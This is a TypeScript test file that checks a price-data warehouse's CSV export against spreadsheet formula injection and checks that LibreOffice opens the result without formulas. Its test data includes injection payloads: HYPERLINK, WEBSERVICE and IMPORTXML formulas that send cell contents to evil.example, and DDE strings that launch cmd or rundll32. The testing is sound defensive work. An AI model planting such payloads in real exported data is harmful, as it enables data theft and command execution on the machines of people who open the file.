import { execFileSync, spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { z } from 'zod'
import { openWarehouse } from '../../../src/warehouse/warehouse.ts'
import { temporaryFolder } from '../cli/workspace.ts'
import { day, look, nothing, offer, price, seen } from '../warehouse/ledger-story.ts'

/** Texts that a spreadsheet may run, as a page may print them as the name of a plan. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Pro")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd|calc',
  '@SUM(1+1)',
  '@SUM(1,1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=DDE("cmd";"/C calc";"x")',
  '=rundll32|URL.dll,OpenURL!A',
  '-',
  '@',
  '=',
]
/** These stay as they are. */
const harmless = [
  ...['Pro', 'A=B', '-5', '+49', '-12.50', '5 - 3', "'quoted", 'a@b.example'],
  ...['"=1+1"', 'Pro,"=1+1"', 'Pro, -5 %', 'Pro; from 5'],
]
/** What is after `here` is a cell of its own in a file opened with another separator. */
const within = ['";here=1+1', 'Pro;here=1+1', 'Pro|here@SUM(1)', 'Pro\there-1+1', 'Pro\n here=1+1']
const texts = [...formulas, ...harmless, ...within.map((text) => text.replace('here', ''))]

const Row = z.object({ plan_name: z.string() })

/** The exported CSV, and what stands in the column of names of each format. */
async function exported(folder: string) {
  const warehouse = await openWarehouse(join(folder, 'warehouse.duckdb'))
  const capture = look('c1', day(1))
  const observations = texts.map((name, at) =>
    seen(
      `o${String(at).padStart(2, '0')}`,
      capture,
      `s${at}`,
      offer(`s${at}`, [price('seat', '5')], { name }),
    ),
  )
  await warehouse.append({ ...nothing, watermark: 1, captures: [capture], observations })
  await warehouse.exportCsv(folder)
  await warehouse.exportParquet(folder)
  const path = join(folder, 'price_observation.csv')
  const names = async (from: string) => {
    const sql = `SELECT plan_name FROM ${from} ORDER BY observation_id`
    return (await warehouse.query(sql, Row)).map(({ plan_name }) => plan_name)
  }
  const csv = await names(`read_csv('${path}', all_varchar = true, header = true)`)
  const parquet = await names(`'${join(folder, 'price_observation.parquet')}'`)
  await warehouse.close()
  return { path, csv, parquet }
}

test('no text of others is a formula in an exported table, and no other text is changed', async () => {
  using folder = temporaryFolder()
  const { path, csv, parquet } = await exported(folder.path)
  expect(csv).toEqual([
    ...formulas.map((text) => `'${text.replace(/(?<=^[\t\r\n])/, "'")}`),
    ...harmless,
    ...within.map((text) => text.replace('here', "'")),
  ])
  expect(parquet).toEqual(texts)
  const separated = readFileSync(path, 'utf8')
    .split('\n')
    .filter((line) => line.includes('Pro;'))
  expect(separated).toEqual([
    expect.stringContaining('"Pro; from 5"'),
    expect.stringContaining(`"Pro;'=1+1"`),
  ])
})

const office = ['soffice', 'libreoffice'].find(
  (name) => spawnSync(name, ['--version']).status === 0,
)
if (!office) console.warn('skipped: no LibreOffice here to open the exported CSV in')

test.skipIf(!office)('LibreOffice opens it without a formula', async () => {
  using folder = temporaryFolder()
  const { path } = await exported(folder.path)
  const profile = `-env:UserInstallation=file://${folder.path}/profile`
  for (const filter of ['44,34,76', '59,34,76']) {
    const args = ['--headless', '--convert-to', 'fods', `--infilter=CSV:${filter}`]
    execFileSync(office ?? '', [profile, ...args, '--outdir', folder.path, path])
    const sheet = readFileSync(join(folder.path, 'price_observation.fods'), 'utf8')
    expect(sheet).toContain('HYPERLINK')
    expect(sheet).not.toContain('table:formula')
  }
})
